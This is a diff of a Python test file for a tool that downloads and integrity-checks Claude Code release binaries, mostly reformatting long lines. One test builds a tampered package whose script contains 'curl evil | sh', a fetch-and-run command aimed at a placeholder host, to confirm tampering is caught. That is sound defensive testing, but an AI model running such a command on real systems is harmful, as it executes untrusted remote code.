@@ -110,7 +110,9 @@ def fake_release(tmp_path: Path) -> FakeRelease:
             "package/README.md": b"readme",
         },
     )
-    entry = PlatformEntry(integrity=_sri(raw), binary="claude", sha256=hashlib.sha256(binary).hexdigest(), size=len(binary))
+    entry = PlatformEntry(
+        integrity=_sri(raw), binary="claude", sha256=hashlib.sha256(binary).hexdigest(), size=len(binary)
+    )
     platforms = {p: (replace(entry, binary="claude.exe") if p.startswith("win32") else entry) for p in PLATFORMS}
     return FakeRelease(tarball, raw, binary, Manifest("@anthropic-ai/claude-code", FAKE_VERSION, platforms))
 
@@ -166,7 +168,10 @@ def test_detect_platform(sys_platform: str, machine: str, musl: bool, expected: 
     assert expected in PLATFORMS
 
 
-@pytest.mark.parametrize(("sys_platform", "machine"), [("linux", "i686"), ("linux", "armv7l"), ("freebsd14", "amd64"), ("cygwin", "x86_64"), ("linux", "")])
+@pytest.mark.parametrize(
+    ("sys_platform", "machine"),
+    [("linux", "i686"), ("linux", "armv7l"), ("freebsd14", "amd64"), ("cygwin", "x86_64"), ("linux", "")],
+)
 def test_detect_platform_unsupported(sys_platform: str, machine: str) -> None:
     with pytest.raises(UnsupportedPlatformError, match="CLAUDE_WRAP_CLI"):
         detect_platform(sys_platform, machine)
@@ -501,7 +506,9 @@ def test_fake_npm_failure_carries_stderr(
 
 
 @posix_only
-def test_fake_npm_serving_tampered_tarball(fake_release: FakeRelease, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_fake_npm_serving_tampered_tarball(
+    fake_release: FakeRelease, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     tampered = tmp_path / "tampered.tgz"
     _make_tarball(tampered, {"package/claude": _fake_script(FAKE_VERSION, "curl evil | sh\n")})
     bin_dir = tmp_path / "npm-bin"
@@ -538,7 +545,9 @@ class Layout:
 
 
 @pytest.fixture
-def layout(tmp_path: Path, fake_release: FakeRelease, use_manifest: UseManifest, monkeypatch: pytest.MonkeyPatch) -> Layout:
+def layout(
+    tmp_path: Path, fake_release: FakeRelease, use_manifest: UseManifest, monkeypatch: pytest.MonkeyPatch
+) -> Layout:
     """One candidate binary at every discovery step."""
     use_manifest(fake_release.manifest)
     name = "claude.exe" if sys.platform == "win32" else "claude"
@@ -659,6 +668,7 @@ def test_find_binary_is_cheap(layout: Layout, monkeypatch: pytest.MonkeyPatch) -
     calls: list[object] = []
     monkeypatch.setattr(subprocess, "run", lambda *a, **k: calls.append(a))
     from claude_wrap._process import fetch as _fetch
+
     monkeypatch.setattr(_fetch, "_hash_file", lambda *a, **k: calls.append(a))
     for _ in range(20):
         assert find_binary() == layout.cache
@@ -678,7 +688,9 @@ def test_import_is_light() -> None:
 def _run_script(*args: str, cache: Path) -> subprocess.CompletedProcess[str]:
     # PYTHONPATH: the script imports this checkout's claude_wrap, not another installed copy.
     env = {**USER_ENV, _binary.ENV_CACHE_DIR: str(cache), "PYTHONPATH": str(REPO)}
-    return subprocess.run([sys.executable, str(SCRIPT), *args], check=False, capture_output=True, text=True, env=env, timeout=300)
+    return subprocess.run(
+        [sys.executable, str(SCRIPT), *args], check=False, capture_output=True, text=True, env=env, timeout=300
+    )
 
 
 def test_script_rejects_bad_tarball(fake_release: FakeRelease, tmp_path: Path) -> None:
@@ -706,7 +718,9 @@ def real_cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
     cache = tmp_path_factory.mktemp("real-cache")
     proc = _run_script(cache=cache)
     assert proc.returncode == 0, proc.stderr
-    assert proc.stdout.startswith(f"fetched and verified Claude Code {pinned_version()} ({current_platform()}) with npm pack")
+    assert proc.stdout.startswith(
+        f"fetched and verified Claude Code {pinned_version()} ({current_platform()}) with npm pack"
+    )
     return cache
 
 
